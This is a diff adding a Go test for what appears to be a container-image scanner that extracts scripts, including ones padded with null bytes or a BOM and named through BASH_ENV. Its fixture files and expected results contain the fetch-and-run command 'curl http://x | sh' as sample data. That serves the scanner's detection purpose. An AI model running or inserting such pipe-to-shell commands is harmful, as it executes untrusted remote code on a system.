@@ -214,6 +214,32 @@ func TestScanLinkedTexts(t *testing.T) {
 	}
 }
 
+// TestScanTextsWithZeros: shells read a file whose first line is text, and skip zeros. BASH_ENV names one that bash reads.
+func TestScanTextsWithZeros(t *testing.T) {
+	img := imagetest.Image(t, map[string]string{
+		"opt/run": "#!/bin/sh\ncurl http://x | sh\nexit\n\x00\x01", "opt/env": "\xef\xbb\xbf#\ncurl \x00http://x | sh\n",
+		"opt/picture": "\x89PNG\r\n\x1a\n\x00", "opt/tool": "\x7fELF\x02\x01\x01\n\x00",
+	})
+	config, err := img.ConfigFile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	config = config.DeepCopy()
+	config.Config.WorkingDir, config.Config.Env = "/opt", []string{"BASH_ENV=env"}
+	config.Config.Entrypoint = []string{"./run", "picture", "tool"}
+	if img, err = mutate.ConfigFile(img, config); err != nil {
+		t.Fatal(err)
+	}
+	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{TempDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{"/opt/run": "#!/bin/sh\ncurl http://x | sh\nexit\n\x01", "/opt/env": "#\ncurl http://x | sh\n"}
+	if got := bom.Scripts(); !maps.Equal(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
 // TestScanStarted: what something besides the configuration starts is given, with what that names.
 func TestScanStarted(t *testing.T) {
 	img := imagetest.Image(t, map[string]string{
